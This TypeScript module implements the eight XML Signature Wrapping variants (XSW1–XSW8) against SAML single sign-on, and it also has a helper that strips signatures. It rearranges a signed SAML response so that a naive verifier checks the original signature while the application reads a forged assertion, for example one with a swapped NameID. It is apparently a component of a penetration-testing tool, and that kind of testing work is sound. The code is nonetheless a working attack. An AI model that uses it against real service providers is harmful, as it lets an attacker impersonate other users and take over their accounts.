/**
 * Signature wrapping: a signed message rearranged so that a naive verifier checks the original while a naive reader reads the evil copy.
 * Numbered as in Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), and as the common tools do.
 */
export type Wrapping = 'xsw1' | 'xsw2' | 'xsw3' | 'xsw4' | 'xsw5' | 'xsw6' | 'xsw7' | 'xsw8';

export interface WrapOptions {
  /** Text of the original that the evil copy has otherwise, as the NameID. */
  replace: string;
  by: string;
}

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
const EVIL_ID = '_evil';

/** `xsw1` and `xsw2` want a message whose Response is signed, the others one whose Assertion is. */
export function wrap(signedResponse: string, wrapping: Wrapping, { replace, by }: WrapOptions): string {
  const whole = wrapping === 'xsw1' || wrapping === 'xsw2';
  const original = whole ? signedResponse : firstOf(ASSERTION, signedResponse);
  const signature = firstOf(SIGNATURE, original);
  const bare = original.replace(signature, '');
  const evil = withId(bare.replaceAll(replace, by), EVIL_ID);
  const inside = (content: string): string => signature.replace('</ds:Signature>', `${content}</ds:Signature>`);
  const put = (assertions: string): string => signedResponse.replace(original, assertions);
  switch (wrapping) {
    case 'xsw1':
      return afterIssuer(evil, inside(bare));
    case 'xsw2':
      return afterIssuer(evil, bare + signature);
    case 'xsw3':
      return put(evil + original);
    case 'xsw4':
      return put(evil.replace(/<\/saml:Assertion>$/, `${original}</saml:Assertion>`));
    case 'xsw5':
      return put(afterIssuer(evil, signature) + bare);
    case 'xsw6':
      return put(afterIssuer(evil, inside(bare)));
    case 'xsw7':
      return signedResponse.replace(
        '<samlp:Status>',
        `<samlp:Extensions>${bare.replaceAll(replace, by)}</samlp:Extensions><samlp:Status>`,
      );
    case 'xsw8':
      return put(afterIssuer(evil, inside(`<ds:Object>${bare}</ds:Object>`)));
  }
}

export function removeSignatures(xml: string): string {
  return xml.replaceAll(new RegExp(SIGNATURE, 'gs'), '');
}

function firstOf(pattern: RegExp, xml: string): string {
  const found = pattern.exec(xml)?.[0];
  if (found === undefined) throw new Error('the message has nothing of the kind to wrap');
  return found;
}

function withId(xml: string, id: string): string {
  return xml.replace(/ ID="[^"]*"/, ` ID="${id}"`);
}

function afterIssuer(xml: string, inserted: string): string {
  const end = '</saml:Issuer>';
  const at = xml.indexOf(end) + end.length;
  return xml.slice(0, at) + inserted + xml.slice(at);
}
